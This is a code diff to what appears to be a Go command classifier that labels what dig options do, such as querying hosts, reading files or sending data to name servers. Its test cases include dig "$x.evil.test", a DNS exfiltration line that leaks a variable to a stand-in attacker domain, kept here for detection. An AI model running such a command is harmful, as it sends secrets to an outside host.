@@ -15,7 +15,8 @@ var dig = Program{
 			{Names: "-4 -6 -m -r -u -v -i"},
 			{Names: "-b= -q= -t= -x=", Value: Data}, {Names: "-c= -p=", Value: Data, Of: "dig delv kdig"},
 			{Names: "-y=", Value: Data},
-			{Names: "-f= -k=", Value: Reads},
+			{Names: "-k=", Value: Reads},
+			{Names: "-f=", Value: Reads, Does: []Do{{Kind: automode.Send, Target: "name servers"}}, Why: "asks name servers for what a file holds"},
 		},
 		Refine: digNames,
 	},
@@ -25,9 +26,9 @@ var digCases = []Case{
 	{`dig -c 1 +short h.test mx`, `Query h.test; Query mx`},
 	{`dig +short h.test mx`, `Query h.test; Query mx`},
 	{`dig @ns.test -t a -x 10.0.0.1 h.test`, `Query ns.test; Query h.test`},
-	{`dig -f l`, `Read l`},
+	{`dig -f l`, `Send name servers; Read l`}, {`dig -k l h.test`, `Read l; Query h.test`},
 	{`dig -u -y k:s h.test`, `Query h.test`},
-	{`dig "$x.evil.test"`, `Send ….evil.test`},
+	{`dig "$x.evil.test"`, `Unknown an unknown word may be an option; Send ….evil.test`},
 }
 
 // digNames: a name that is made of what is not known carries it to whoever
